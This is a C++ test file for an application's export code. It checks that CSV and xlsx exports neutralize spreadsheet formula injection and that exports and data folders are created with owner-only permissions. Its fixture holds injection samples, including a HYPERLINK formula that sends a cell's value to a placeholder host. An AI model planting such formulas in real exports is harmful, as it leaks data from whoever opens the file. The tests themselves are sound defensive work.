// core_private_files_test.cpp — exports and the data folder are their owner's
// only (0600 / 0700) whatever the umask, and no CSV cell can run as a formula
// in Excel or WPS (issue 14).
#include <doctest/doctest.h>

#include "core/private_files.hpp"
#include "core/table_export.hpp"

#include <zip.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <sys/stat.h>
#include <unistd.h>

using namespace jinguo;
namespace fs = std::filesystem;

namespace {

struct TempFolder {
    fs::path path = fs::temp_directory_path() / ("jinguo_private_" + std::to_string(::getpid()) + "_"
                                                 + std::to_string(counter()++));
    TempFolder() { fs::remove_all(path); fs::create_directories(path); }
    ~TempFolder() { std::error_code ec; fs::remove_all(path, ec); }
    static int& counter() { static int n = 0; return n; }
};

unsigned modeOf(const fs::path& p) {
    struct stat st {};
    REQUIRE(::stat(p.c_str(), &st) == 0);
    return st.st_mode & 0777;
}

// The usual desktop umask, restored afterwards.
struct Umask022 {
    mode_t old = ::umask(022);
    ~Umask022() { ::umask(old); }
};

std::string slurp(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

std::string zipPart(const std::string& path, const char* part) {
    int error = 0;
    zip_t* z = zip_open(path.c_str(), ZIP_RDONLY, &error);
    REQUIRE(z);
    std::string out;
    if (zip_file_t* f = zip_fopen(z, part, 0)) {
        char buf[65536];
        zip_int64_t n;
        while ((n = zip_fread(f, buf, sizeof buf)) > 0) out.append(buf, static_cast<std::size_t>(n));
        zip_fclose(f);
    }
    zip_discard(z);
    return out;
}

ExportTable riskyTable() {
    ExportTable t;
    t.sheetName = "名单";
    t.headers = {"姓名", "备注", "时长"};
    t.numericColumns = {false, false, true};
    t.rows = {
        {"王芳", "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "-3.5"},
        {"李娜", "+1+1", "12"},
        {"张丽", "-HYPERLINK(\"http://x.example\")", "0"},
        {"赵敏", "@SUM(1,2)", "1.5"},
        {"钱红", "\t=1+1", "2"},
        {"孙梅", "\r=1+1", "3"},
        {"周洁", "-2", "-7"},
        {"吴静", "普通备注", "4"},
    };
    return t;
}

} // namespace

TEST_CASE("a CSV cell that Excel or WPS would run as a formula gets a leading quote; plain numbers stay") {
    CHECK(neutralizeCsvFormula("=1+1") == "'=1+1");
    CHECK(neutralizeCsvFormula("+1+1") == "'+1+1");
    CHECK(neutralizeCsvFormula("-HYPERLINK(\"x\")") == "'-HYPERLINK(\"x\")");
    CHECK(neutralizeCsvFormula("@SUM(A1)") == "'@SUM(A1)");
    CHECK(neutralizeCsvFormula("\t=1") == "'\t=1");
    CHECK(neutralizeCsvFormula("\r=1") == "'\r=1");
    CHECK(neutralizeCsvFormula("-3.5") == "-3.5");
    CHECK(neutralizeCsvFormula("+12") == "+12");
    CHECK(neutralizeCsvFormula("-") == "'-");
    CHECK(neutralizeCsvFormula("-1+1") == "'-1+1");
    CHECK(neutralizeCsvFormula("-1e5") == "'-1e5");
    CHECK(neutralizeCsvFormula("王芳") == "王芳");
    CHECK(neutralizeCsvFormula("") == "");
    CHECK(neutralizeCsvFormula("110***********123X") == "110***********123X");
}

TEST_CASE("CSV export: every risky prefix is neutralized, numbers and ordinary text are written as they were") {
    TempFolder folder;
    const fs::path csv = folder.path / "名单.csv";
    REQUIRE(writeExport(csv.string(), riskyTable()).empty());
    const std::string text = slurp(csv);
    CHECK(text.find("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\",-3.5\r\n") != std::string::npos);
    CHECK(text.find("李娜,'+1+1,12\r\n") != std::string::npos);
    CHECK(text.find("张丽,\"'-HYPERLINK(\"\"http://x.example\"\")\",0\r\n") != std::string::npos);
    CHECK(text.find("赵敏,\"'@SUM(1,2)\",1.5\r\n") != std::string::npos);
    CHECK(text.find("钱红,'\t=1+1,2\r\n") != std::string::npos);
    CHECK(text.find("孙梅,\"'\r=1+1\",3\r\n") != std::string::npos);
    CHECK(text.find("周洁,-2,-7\r\n") != std::string::npos);
    CHECK(text.find("吴静,普通备注,4\r\n") != std::string::npos);
    // No line of the file has a cell that begins with a formula character.
    std::istringstream lines(text);
    std::string line;
    int rows = 0;
    while (std::getline(lines, line)) {
        ++rows;
        for (const char* bad : {",=", ",+1", ",-H", ",@", ",\t", "\"=", "\"@", "\"-H"})
            CHECK_MESSAGE(line.find(bad) == std::string::npos, line);
    }
    CHECK(rows >= 9);
}

TEST_CASE("xlsx export: formula-looking text is a string cell, never a formula") {
    TempFolder folder;
    const fs::path xlsx = folder.path / "名单.xlsx";
    REQUIRE(writeExport(xlsx.string(), riskyTable()).empty());
    const std::string sheet = zipPart(xlsx.string(), "xl/worksheets/sheet1.xml");
    REQUIRE_FALSE(sheet.empty());
    CHECK(sheet.find("<f>") == std::string::npos);
    CHECK(sheet.find("<f ") == std::string::npos);
    // Written as the rows come (constant_memory): strings are inline cells of the sheet.
    CHECK(sheet.find("t=\"inlineStr\"") != std::string::npos);
    CHECK(sheet.find("=HYPERLINK(") != std::string::npos);   // kept as the text it is
    CHECK(sheet.find("@SUM(1,2)") != std::string::npos);
}

TEST_CASE("exports are written readable by their owner only (0600), whatever the umask") {
    Umask022 umask;
    TempFolder folder;
    for (const char* name : {"名单.csv", "名单.xlsx"}) {
        const fs::path out = folder.path / name;
        REQUIRE(writeExport(out.string(), riskyTable()).empty());
        CHECK_MESSAGE(modeOf(out) == 0600, name);
        // Overwriting a file the user had at 0644 makes it private too.
        ::chmod(out.c_str(), 0644);
        REQUIRE(writeExport(out.string(), riskyTable()).empty());
        CHECK_MESSAGE(modeOf(out) == 0600, name);
    }
}

TEST_CASE("the data folder and its missing parents are created 0700; existing folders keep their mode") {
    Umask022 umask;
    TempFolder folder;
    ::chmod(folder.path.c_str(), 0755);
    const fs::path data = folder.path / "share" / "jinguo";
    REQUIRE(createPrivateFolders(data.string()).empty());
    CHECK(modeOf(folder.path / "share") == 0700);
    CHECK(modeOf(data) == 0700);
    CHECK(modeOf(folder.path) == 0755);
    CHECK(createPrivateFolders(data.string()).empty());   // again: nothing to do

    const fs::path file = data / "x.db";
    CHECK(createPrivateFile(file.string()));
    CHECK(modeOf(file) == 0600);
    CHECK_FALSE(createPrivateFile(file.string()));   // exists: left as it is
}
